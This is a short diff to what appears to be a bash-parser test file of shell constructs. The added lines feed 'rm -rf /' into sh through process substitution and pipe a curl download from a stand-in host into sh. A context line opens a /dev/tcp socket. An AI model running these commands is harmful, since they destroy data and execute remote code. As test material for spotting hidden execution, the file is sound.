@@ -14,3 +14,5 @@ while read l; do echo "$l"; done < <(ls)
 { ls; pwd; } > out.txt
 #--- fd with read-write to /dev/tcp (tree-sitter-bash cannot parse `3<>`)
 exec 3<>/dev/tcp/example.com/80
+#--- output into a process substitution is a pipe: the shell inside reads echo's text
+echo 'rm -rf /' > >(sh); sh < <(echo 'rm -rf /'); curl -so >(sh) https://x.example
